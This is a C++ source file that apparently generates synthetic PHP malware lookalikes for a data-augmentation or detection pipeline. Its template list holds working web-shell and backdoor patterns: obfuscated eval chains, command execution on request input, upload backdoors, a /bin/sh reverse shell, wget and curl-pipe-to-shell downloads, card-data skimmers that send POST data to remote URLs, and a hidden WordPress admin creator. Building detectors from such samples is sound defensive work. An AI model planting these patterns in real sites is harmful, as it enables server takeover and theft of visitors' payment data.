#include <algorithm>
#include <vector>

#include "fovea/augment/snippets/code_template.h"
#include "fovea/augment/snippets/lookalikes.h"
#include "fovea/core/error.h"

namespace fovea::augment {
namespace {

std::string Input(Junk& j) {
  const std::string from = j.Pick({"_POST", "_POST", "_GET", "_REQUEST", "_COOKIE", "_SERVER"});
  if (from == "_SERVER") return "$_SERVER['HTTP_~key~']";
  if (j.Chance(0.08)) return "$HTTP_POST_VARS['~key~']";
  if (j.Chance(0.06)) return "${'" + from + "'}['~key~']";
  if (j.Chance(0.1)) return "$" + from + "[~small~]";
  if (j.Chance(0.03)) return "end($" + from + ")";
  if (j.Chance(0.03)) return "file_get_contents('php://input')";
  return "$" + from + "['~key~']";
}

// A literal behind a chain of decoders.
std::string Blob(Junk& j) {
  std::string text = j.Pick({"'~b64~'", "'~b64~'", "'~b64s~'", "\"~b64~\"", "'~b64l~'", "'~hex~'"});
  const bool hex = text == "'~hex~'";
  text = (hex ? j.Pick({"pack('H*',", "hex2bin("}) : "base64_decode(") + text + ")";
  for (int64_t i = j.Int(0, 3); i > 0; --i)
    text =
        j.Pick({"gzinflate", "gzuncompress", "str_rot13", "strrev", "gzdecode", "rawurldecode",
                "stripslashes", "convert_uudecode", "base64_decode", "htmlspecialchars_decode"}) +
        "(" + text + ")";
  return text;
}

std::string FunctionName(Junk& j) {
  return j.Pick({"assert", "base64_decode", "create_function", "eval", "gzinflate", "str_rot13",
                 "system", "file_put_contents", "call_user_func", "preg_replace", "passthru",
                 "shell_exec", "fwrite", "strrev", "array_filter", "unserialize"});
}

// A function's name in characters.
std::string Characters(Junk& j) {
  std::string text;
  const std::string gap = j.Pick({".", ".", " . "});
  const bool hex = j.Chance(0.3);
  for (const char c : FunctionName(j)) {
    const auto code = static_cast<int>(c);
    const std::string number =
        hex ? "0x" + std::string(1, "0123456789abcdef"[code / 16]) + "0123456789abcdef"[code % 16]
        : j.Chance(0.15) ? StrCat(code + 7, "-7")
                         : StrCat(code);
    text += (text.empty() ? "" : gap) + "chr(" + number + ")";
  }
  return text;
}

// A name in pieces of an alphabet: $a[3].$a[17].
std::string Picked(Junk& j) {
  std::string text;
  for (int64_t i = j.Int(5, 16); i > 0; --i)
    text += "$~0~[" + StrCat(j.Int(0, 40)) + "]" + (i > 1 ? "." : "");
  return "$~0~='" + j.Letters(j.Int(30, 60)) + "';$~1~=" + text + ";" +
         j.Pick({"$~1~(~input~);", "@$~1~(~input~,~blob~);", "$~2~=$~1~('',~blob~);$~2~();"});
}

// Short variables that are joined.
std::string Joined(Junk& j) {
  const int64_t count = j.Int(3, 9);
  std::vector<int64_t> order;
  for (int64_t i = 0; i < count; ++i) order.push_back(i);
  j.random().Shuffle(std::span<int64_t>(order));
  const std::string text = j.Chance(0.5) ? FunctionName(j) : j.Base64(j.Int(20, 200));
  const size_t size = (text.size() + static_cast<size_t>(count) - 1) / static_cast<size_t>(count);
  std::string code;
  for (const int64_t i : order)
    code += "$~" + StrCat(i) + "~='" +
            text.substr(std::min(text.size(), static_cast<size_t>(i) * size), size) + "';";
  std::string sum;
  for (int64_t i = 0; i < count; ++i) sum += (i > 0 ? "." : "") + ("$~" + StrCat(i) + "~");
  return code + "$~9~=" + sum + ";" +
         j.Pick({"$~9~(~input~);", "@$~9~(~blob~);", "eval(base64_decode($~9~));", "eval($~9~);",
                 "$~9~('',~input~);"});
}

// A name with noise in it that str_replace takes out.
std::string Infix(Junk& j) {
  const std::string noise = j.Letters(j.Int(1, 3));
  std::string text;
  for (const char c : FunctionName(j)) text += c + (j.Chance(0.6) ? noise : "");
  return "$~0~=str_replace('" + noise + "','','" + text + "');" +
         j.Pick({"$~0~(~input~);", "$~1~=$~0~('',~blob~);$~1~();", "@$~0~(~blob~);"});
}

std::string Table(Junk& j) {
  std::string items;
  for (int64_t i = j.Int(4, 20); i > 0; --i)
    items += "'" + (j.Chance(0.5) ? j.Base64(j.Int(4, 20)) : j.Letters(j.Int(3, 14))) +
             (i > 1 ? "'," : "'");
  return "$GLOBALS['~0~']=" + j.Pick({"array(", "Array("}) + items + ");" +
         j.Pick({"function ~1~($~2~){return base64_decode($GLOBALS['~0~'][$~2~]);}"
                 "eval(~1~(~small~).~1~(~small~).~1~(~small~));",
                 "$GLOBALS['~3~']=$GLOBALS['~0~'][~small~].$GLOBALS['~0~'][~small~];"
                 "@$GLOBALS['~3~'](~input~);",
                 "foreach($GLOBALS['~0~'] as $~4~){$~5~.=$~4~;}@eval(gzinflate($~5~));"});
}

std::string EscapedPath(Junk& j) {
  return Escaped(j.Path(j.Pick({".ico", ".php", ".png", ".css", ".inc", ".jpg", ".ini", ".log"})),
                 j.Chance(0.6) ? 0.5 : 1, /*octal=*/true, j);
}

std::string EscapedName(Junk& j) { return Escaped(FunctionName(j), 1, /*octal=*/true, j); }

const Makers& PhpMakers() {
  static const Makers makers = {
      {"input", Input},
      {"blob", Blob},
      {"fn", FunctionName},
      {"chrs", Characters},
      {"picked", Picked},
      {"joined", Joined},
      {"infix", Infix},
      {"table", Table},
      {"escpath", EscapedPath},
      {"escfn", EscapedName},
      {"run",
       [](Junk& j) {
         return j.Pick({"system", "passthru", "exec", "shell_exec", "popen"});
       }},
      {"at",
       [](Junk& j) {
         return j.Pick({"@", "@", ""});
       }},
      {"bots", [](Junk& j) {
         return j.Pick({"google|bing|yahoo", "bot|crawl|spider", "android|iphone|mobile",
                        "googlebot", "MSIE|Firefox", "slurp|baidu|yandex"});
       }}};
  return makers;
}

constexpr const char* kPatterns[] = {
    // Another file, under a hidden name.
    "@include \"~escpath~\";", "@include \"~escpath~\";", "@include(\"~escpath~\");",
    "@require_once \"~escpath~\";", "@include '~path.ico~';", "include_once(\"~escpath~\");",
    "$~0~=\"~escpath~\";@include_once $~0~;", "@include(base64_decode('~b64s~'));",
    "@include pack('H*','~hexs~');", "if(file_exists('~path.png0~'))@include('~path.png0~');",
    // Decoded code.
    "~at~eval(~blob~);", "~at~eval(~blob~);", "eval(\"?>\".~blob~);",
    "eval('~esc~'.~blob~.'~esc~');", "$~0~=~blob~;eval($~0~);",
    "$~0~='~b64l~';eval(gzinflate(base64_decode($~0~)));",
    "$~0~=create_function('',~blob~);$~0~();", "~at~assert(~blob~);",
    "@preg_replace('/.*/e',~blob~,'');", "preg_replace(\"/~word~/e\",\"~esc~\",'~word~');",
    "$~0~=\"~escfn~\";$~1~=\"~escfn~\";@$~0~($~1~('~b64~'));", "~picked~", "~joined~", "~joined~",
    "~infix~", "~table~", "$~0~=~chrs~;$~1~=~chrs~;$~0~($~1~(~input~));",
    "$~0~=~chrs~;@$~0~(~input~);", "$~0~=strrev('~letters~');$~0~('~b64~');",
    "function ~0~($~1~){$~2~='';for($~3~=0;$~3~<strlen($~1~);$~3~++){$~2~.=chr(ord($~1~[$~3~])^"
    "~num~);}return $~2~;}eval(~0~(base64_decode('~b64~')));",
    "$~0~='~b64~';$~1~='~word~';$~2~='';foreach(str_split($~0~) as "
    "$~3~=>$~4~){$~2~.=chr(ord($~4~)"
    "-ord($~1~[$~3~%strlen($~1~)]));}@eval($~2~);",
    "if(!function_exists('~9~')){function ~9~($~1~){return gzinflate(strrev($~1~));}}"
    "eval(~9~('~b64~'));",
    "goto ~0~;~1~:eval($~2~);goto ~3~;~0~:$~2~=~blob~;goto ~1~;~3~:",
    "class ~0~{var $~1~;function __destruct(){@eval($this->~1~);}}@unserialize(~input~);",
    "$~0~=array('~b64s~','~b64s~','~b64s~');eval(base64_decode(implode('',$~0~)));",
    "${\"~esc~\"}[\"~0~\"]=\"~1~\";${${\"~esc~\"}[\"~0~\"]}=~blob~;@eval(${$~2~});",
    "$_='';$__=\"~esc~\"^\"~esc~\";$___=$__;$_=$$___;$__($_['~key~']);",
    "eval(str_rot13(gzinflate(str_rot13(base64_decode('~b64l~')))));",
    // What a request says.
    "~at~eval(~input~);", "~at~eval(~input~);", "~at~assert(~input~);",
    "~at~eval(stripslashes(~input~));", "~at~eval(base64_decode(~input~));",
    "if(isset(~input0~)){~at~eval(~input0~);}",
    "if(!empty(~input0~)){eval(base64_decode(~input0~));exit;}", "~at~~run~(~input~);",
    "if(isset(~input0~)){echo '<pre>';~run~(~input0~);echo '</pre>';die;}",
    "echo shell_exec(~input~.' 2>&1');", "echo `~input~`;", "print(`{~input~}`);",
    "$~0~=~input~;@$~0~(~input~);", "~at~~input~(~input~);", "($~0~=~input~)&&@$~0~(~input~);",
    "@array_map('~fn~',array(~input~));", "@call_user_func(~input~,~input~);",
    "@call_user_func_array('~fn~',array(~input~));", "array_filter(array(~input~),~input~);",
    "@array_walk($_POST,~input~);", "usort($_GET,'~fn~');",
    "register_shutdown_function(~input~,~input~);",
    "@ob_start(~input~);echo ~input~;ob_end_flush();", "@extract($_REQUEST);@die($~0~($~1~));",
    "extract($_COOKIE);$~0~=@$~1~($~2~,$~3~($~4~));@$~0~();", "@parse_str(~input~);@$~0~($~1~);",
    "$~0~=create_function('$~1~',~input~);$~0~(~input~);",
    "@preg_replace('/~word~/e',~input~,'~word~');",
    "if(md5(~input~)==='~md5~'){@eval(base64_decode(~input~));}",
    "if(@~input~=='~letters~'){$~0~=~input~;~at~~run~($~0~);exit;}",
    "foreach(array($_COOKIE,$_POST) as $~0~){foreach($~0~ as $~1~=>$~2~){$~3~=@unserialize("
    "~0~(base64_decode($~2~),$~1~));if(isset($~3~['~key~'])){eval($~3~['~key~']);}}}",
    "$~0~=@$_COOKIE['~key~'];if($~0~){$~1~=$~0~(@$_COOKIE['~key~']);$~2~=$~0~(@$_COOKIE['~key~'])"
    ";"
    "$~3~=$~1~('',$~2~);$~3~();}",
    "if(isset($_FILES['~key0~'])){move_uploaded_file($_FILES['~key0~']['tmp_name'],"
    "$_FILES['~key0~']['name']);}",
    "if(@copy($_FILES['~key0~']['tmp_name'],$_FILES['~key0~']['name'])){echo 'ok';}echo '<form "
    "method=post enctype=multipart/form-data><input type=file name=~key0~><input "
    "type=submit></form>';",
    "@file_put_contents(~input~,base64_decode(~input~));", "@unlink(__FILE__);@eval(~input~);",
    "@mail(~input~,~input~,~input~,'From: ~word~@~host~');",
    // What another server says.
    "~at~eval(file_get_contents('~url~'));", "eval('?>'.file_get_contents('~url.txt~'));",
    "~at~eval(@file_get_contents(base64_decode('~b64s~')));",
    "$~0~=curl_init('~url~');curl_setopt($~0~,CURLOPT_RETURNTRANSFER,1);eval(curl_exec($~0~));"
    "curl_close($~0~);",
    "@include('~url.txt~');", "$~0~=@file('~url~');echo $~0~[~small~];",
    "$~0~=file_get_contents('~url.txt~');file_put_contents('~path.php0~',$~0~);include('~path."
    "php0~');",
    "file_put_contents('~path.php~',~blob~);",
    "$~0~=fopen('~path.php~','w');fwrite($~0~,~blob~);"
    "fclose($~0~);",
    "@touch('~path0~');@file_put_contents('~path0~',gzinflate('~b64~'));",
    "$~0~=@fsockopen('~ip~',~port~,$~1~,$~2~,~small~);if($~0~){fwrite($~0~,\"GET /~word~ HTTP/1.0"
    "\\r\\n\\r\\n\");while(!feof($~0~)){$~3~.=fgets($~0~,128);}eval($~3~);}",
    "$~0~=@fsockopen('~ip~',~port~);$~1~=proc_open('/bin/sh "
    "-i',array(0=>$~0~,1=>$~0~,2=>$~0~),$~2~);",
    "@exec('wget -q -O ~path0~ ~url~;chmod +x ~path0~;~path0~ &');",
    "@~run~('curl -s ~url.sh~|sh');", "@~run~(\"echo ~b64s~|base64 -d|bash\");",
    // What visitors get.
    "echo '<iframe src=\"~url~\" width=\"1\" height=\"1\" style=\"display:none\"></iframe>';",
    "echo \"<script src='~url.js~'></script>\";", "print base64_decode('~b64~');",
    "echo '<div style=\"position:absolute;left:-~num~px\"><a href=\"~url~\">~word~ "
    "~word~</a></div>';",
    "if(preg_match('/~bots~/i',$_SERVER['HTTP_USER_AGENT'])){header('Location: ~url~');exit;}",
    "if(stripos($_SERVER['HTTP_USER_AGENT'],'bot')!==false){echo "
    "file_get_contents('~url~');die();}",
    "if(strpos($_SERVER['HTTP_REFERER'],'~word~')!==false){header('Location: ~url~');exit();}",
    "if(!isset($_COOKIE['~key0~'])){setcookie('~key0~','1',time()+~num~);echo '<script "
    "src=\"~url.js~\">"
    "</script>';}",
    "if(isset($_POST['payment']['cc_number'])){@file_put_contents('~path.jpg~',base64_encode("
    "serialize($_POST)).\"\\n\",FILE_APPEND);}",
    "$~0~=json_encode($_POST);if(preg_match('/cc_number|cvv/"
    "',$~0~)){@file_get_contents('~url~?~key~='"
    ".base64_encode($~0~));}",
    "$~0~=curl_init();curl_setopt($~0~,CURLOPT_URL,'~url~');curl_setopt($~0~,CURLOPT_POSTFIELDS,"
    "'~key~='.urlencode(base64_encode(serialize($_POST))));@curl_exec($~0~);",
    "@mail('~word~@~host~','~word~',print_r($_POST,true));",
    "add_action('wp_head','~9~');function ~9~(){if(isset($_GET['~key~'])){$~1~=wp_create_user("
    "'~word~','~letters~');$~2~=new WP_User($~1~);$~2~->set_role('administrator');}}",
    "add_action('wp_footer',function(){echo base64_decode('~b64~');});",
    "$~0~=$_SERVER['REMOTE_ADDR'];$~1~=$_SERVER['HTTP_HOST'];@file_get_contents('~url~?~key~='.$~"
    "0~."
    "'&~key~='.$~1~);"};

std::string Silencer(Junk& j) {
  return j.Pick({"error_reporting(0);", "@ini_set('display_errors',0);", "@set_time_limit(0);",
                 "@error_reporting(0);@ini_set('error_log',NULL);", "ignore_user_abort(true);",
                 "@ini_set('display_errors','0');error_reporting(0);"});
}

}  // namespace

std::string PhpLookalike(Junk& junk) {
  if (junk.Chance(0.34)) return PhpLineLookalike(junk);
  if (junk.Chance(0.25)) return ThiefLookalike(junk);
  std::string code = junk.Chance(0.12) ? Silencer(junk) : "";
  return code + FillAny(kPatterns, PhpMakers(), junk);
}

}  // namespace fovea::augment
